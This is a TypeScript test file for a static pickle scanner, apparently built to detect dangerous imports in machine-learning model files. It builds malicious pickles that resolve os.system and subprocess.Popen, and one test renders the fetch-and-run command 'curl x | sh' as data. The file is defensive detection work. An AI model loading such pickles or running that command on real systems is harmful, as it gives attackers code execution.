import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { LimitExceededError, ParseError } from "../../../src/errors.js";
import { MemoryByteSource } from "../../../src/io/byte-source.js";
import { OPCODES } from "../../../src/inspectors/pickle/opcodes.js";
import { globalName, renderValue } from "../../../src/inspectors/pickle/render.js";
import type { PCall, PGlobal } from "../../../src/inspectors/pickle/values.js";
import type { WalkResult } from "../../../src/inspectors/pickle/walk-result.js";
import { PickleWalker } from "../../../src/inspectors/pickle/walker.js";
import type { ByteSource } from "../../../src/types/artifact.js";
import { osSystemPickle, pickle } from "../../builders/pickle-builder.js";
import { CountingSource } from "../../builders/counting-source.js";

interface Walked {
  globals: string[];
  calls: string[];
  result?: WalkResult;
  error?: Error;
}

async function walk(bytes: Uint8Array | ByteSource, chunkSize?: number): Promise<Walked> {
  const w: Walked = { globals: [], calls: [] };
  const src = bytes instanceof Uint8Array ? new MemoryByteSource(bytes) : bytes;
  const walker = new PickleWalker(src, {
    onGlobal: (g: PGlobal) => w.globals.push(g.unresolved ? `?${g.unresolved}` : globalName(g)),
    onCall: (c: PCall) => w.calls.push(renderValue(c)),
    onPayload: () => undefined,
  }, chunkSize ? { chunkSize } : {});
  try {
    w.result = await walker.walk();
  } catch (e) {
    w.error = e as Error;
    w.result = walker.partial;
  }
  return w;
}

describe("opcode table", () => {
  it("has every opcode pickletools knows, each with a unique byte", () => {
    expect(OPCODES).toHaveLength(68);
    expect(new Set(OPCODES.map((o) => o.code)).size).toBe(68);
  });
});

describe("pickle walker", () => {
  it("resolves STACK_GLOBAL whose strings come back through the memo", async () => {
    const b = pickle().proto(4).str("os").op("MEMOIZE").str("system").op("BINPUT", 7).op("POP").op("POP").op("BINGET", 0).op("BINGET", 7).op("STACK_GLOBAL").stop().bytes();
    expect((await walk(b)).globals).toEqual(["os.system"]);
  });

  it("resolves LONG_BINPUT/LONG_BINGET and protocol 0 PUT/GET indirections", async () => {
    const b = pickle().proto(4).op("BINUNICODE8", "subprocess").op("LONG_BINPUT", 70000).op("POP").op("UNICODE", "Popen").op("PUT", "3").op("POP").op("LONG_BINGET", 70000).op("GET", "3").op("STACK_GLOBAL").stop().bytes();
    expect((await walk(b)).globals).toEqual(["subprocess.Popen"]);
  });

  it("renders the call and its constant arguments", async () => {
    expect((await walk(osSystemPickle("curl x | sh"))).calls).toEqual(['os.system("curl x | sh")']);
  });

  it("walks several pickles back to back to the end of the file", async () => {
    const b = new Uint8Array([...pickle().proto(2).op("NONE").stop().bytes(), ...osSystemPickle()]);
    const w = await walk(b);
    expect(w.globals).toEqual(["os.system"]);
    expect(w.result?.streams).toHaveLength(2);
  });

  it("recognises the PyTorch legacy layout and stops at the raw storage without an error", async () => {
    const w = await walk(readFileSync(join(import.meta.dirname, "../../../fixtures/pickle/benign/torch-legacy-state-dict.bin")));
    expect(w.error).toBeUndefined();
    expect(w.result?.layout).toBe("pytorch-legacy");
    expect(w.result?.streams).toHaveLength(5);
    expect(w.result?.rawStorageOffset).toBeGreaterThan(0);
  });

  it("follows joblib array wrappers over their raw array bytes", async () => {
    const w = await walk(readFileSync(join(import.meta.dirname, "../../../fixtures/pickle/benign/sklearn-tree.joblib")));
    expect(w.error).toBeUndefined();
    expect(w.result?.layout).toBe("joblib");
    expect(w.result?.joblibArrays).toBeGreaterThan(0);
  });

  it("skips a large BINBYTES8 blob by seeking instead of reading it", async () => {
    const blob = new Uint8Array(8 * 1024 * 1024);
    const src = new CountingSource(new Uint8Array([...pickle().proto(4).bytes(), 0x8e, ...new Uint8Array(new BigUint64Array([BigInt(blob.length)]).buffer), ...blob, ...osSystemPickle().subarray(2)]));
    const w = await walk(src);
    expect(w.globals).toEqual(["os.system"]);
    expect(src.bytes).toBeLessThan(4 * 1024 * 1024);
  });

  it("keeps a prefix of a long string and its length", async () => {
    const w = await walk(pickle().proto(4).global("os", "system").str("x".repeat(5000)).op("TUPLE1").op("REDUCE").stop().bytes());
    expect(w.calls[0]).toContain("(5000 chars)");
  });

  it("reports a truncated pickle as a ParseError with its offset, after what it found", async () => {
    const b = osSystemPickle();
    const w = await walk(b.subarray(0, b.length - 1));
    expect(w.error).toBeInstanceOf(ParseError);
    expect((w.error as ParseError).offset).toBe(b.length - 1);
    expect(w.calls).toHaveLength(1);
  });

  it("refuses a protocol above 5 like the unpickler", async () => {
    expect((await walk(new Uint8Array([0x80, 6, 0x4e, 0x2e]))).error?.message).toContain("unsupported pickle protocol: 6");
  });

  it("mirrors _pickle.c: values under a MARK cannot be popped", async () => {
    const w = await walk(pickle().proto(2).op("NONE").op("MARK").op("TUPLE1").stop().bytes());
    expect(w.error?.message).toContain("unpickling stack underflow");
  });

  it("handles protocol 5 out-of-band buffers and bytearrays", async () => {
    const w = await walk(pickle().proto(5).op("NEXT_BUFFER").op("READONLY_BUFFER").op("BYTEARRAY8", new Uint8Array([1, 2])).op("TUPLE2").stop().bytes());
    expect(w.error).toBeUndefined();
  });

  it("turns an EXT code into an unresolved import", async () => {
    expect((await walk(pickle().proto(2).op("EXT4", 70000).stop().bytes())).globals).toEqual(["?copyreg extension registry code"]);
  });

  it("treats STACK_GLOBAL on non-strings as the unpickler does (an error)", async () => {
    expect((await walk(pickle().proto(4).int(1).str("x").op("STACK_GLOBAL").stop().bytes())).error?.message).toContain("STACK_GLOBAL requires str");
  });

  it("bounds the stack of a push flood", async () => {
    const w = await walk(new Uint8Array(6_000_000).fill(0x4e));
    expect(w.error).toBeInstanceOf(LimitExceededError);
  });

  it("keeps memory flat on a billion-laughs style GET/DUP flood", async () => {
    const b = pickle().proto(2).op("EMPTY_LIST").op("BINPUT", 0);
    for (let i = 0; i < 2000; i++) b.op("BINGET", 0).op("DUP").op("POP").op("APPEND");
    const w = await walk(b.stop().bytes());
    expect(w.error).toBeUndefined();
  });
});

describe("chunked reading", () => {
  const dirs = ["benign", "advisories"].map((d) => join(import.meta.dirname, "../../../fixtures/pickle", d));
  const files = dirs.flatMap((d) => readdirSync(d).filter((f) => !f.endsWith(".json")).map((f) => join(d, f)));

  it("finds the same imports, calls and errors whatever the read size", async () => {
    for (const file of files) {
      const bytes = readFileSync(file);
      const whole = await walk(bytes);
      for (const chunk of [1, 2, 3, 7, 64]) {
        const w = await walk(bytes, chunk);
        expect({ g: w.globals, c: w.calls, e: w.error?.message, s: w.result?.streams.length }, `${file} in ${chunk}-byte reads`).toEqual({
          g: whole.globals,
          c: whole.calls,
          e: whole.error?.message,
          s: whole.result?.streams.length,
        });
      }
    }
  });
});

describe("memo bound", () => {
  /** 80k memoized empty tuples pass MAX_PICKLE_MEMO_BYTES (containers are accounted at 224 bytes). */
  function flooded(): ReturnType<typeof pickle> {
    const b = pickle().proto(4);
    for (let i = 0; i < 80_000; i++) b.op("EMPTY_TUPLE").op("MEMOIZE").op("POP");
    return b;
  }

  it("still resolves names that STACK_GLOBAL used once they come back through BINGET", async () => {
    const b = flooded().str("os").op("MEMOIZE").str("system").op("MEMOIZE").op("STACK_GLOBAL").op("POP");
    b.op("LONG_BINGET", 80_000).op("LONG_BINGET", 80_001).op("STACK_GLOBAL").stop();
    const w = await walk(b.bytes());
    expect(w.result?.memoOverflow).toBe(true);
    expect(w.globals).toEqual(["os.system", "os.system"]);
  });

  it("reports an import through a dropped memo entry as unresolved instead of guessing", async () => {
    const b = flooded().str("os").op("MEMOIZE").op("POP").str("system").op("MEMOIZE").op("POP");
    b.op("LONG_BINGET", 80_000).op("LONG_BINGET", 80_001).op("STACK_GLOBAL").stop();
    const w = await walk(b.bytes());
    expect(w.globals).toEqual(["?taken from a memo entry dropped after the memo bound"]);
  });
});
